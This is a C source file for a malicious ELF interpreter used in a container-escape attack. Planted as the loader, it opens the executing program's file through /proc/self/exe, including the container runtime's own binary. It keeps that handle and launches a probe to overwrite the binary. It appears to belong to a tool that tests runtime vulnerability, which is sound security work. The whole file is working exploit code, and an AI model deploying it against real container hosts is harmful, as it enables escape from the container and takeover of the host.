/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An ELF interpreter of the attacker's, to lie where a dynamic program expects its loader. The kernel maps it into any such
 * program that is executed in the container, the runtime's own too, and /proc/self/exe is then that program's file. It keeps
 * a handle of it and starts the probe, which tries to write to it when nobody runs it any more.
 *
 *	cc -static -nostdlib -ffreestanding -fno-stack-protector -Wl,-e,start
 */
static long call(long nr, long a, long b, long c, long d)
{
	long result;
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
}

#define NR_OPENAT 257
#define NR_DUP2 33
#define NR_EXECVE 59
#define NR_EXIT 231

/* The handle is passed on as descriptor 7. */
void start(void)
{
	static const char *const argv[] = { "probe", "attack", "overwrite-handle", "7", "3", 0 };
	long fd = call(NR_OPENAT, -100, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);

	call(NR_DUP2, fd, 7, 0, 0);
	call(NR_EXECVE, (long)"/bin/probe", (long)argv, 0, 0);
	call(NR_EXIT, 3, 0, 0, 0);
	for (;;)
		;
}
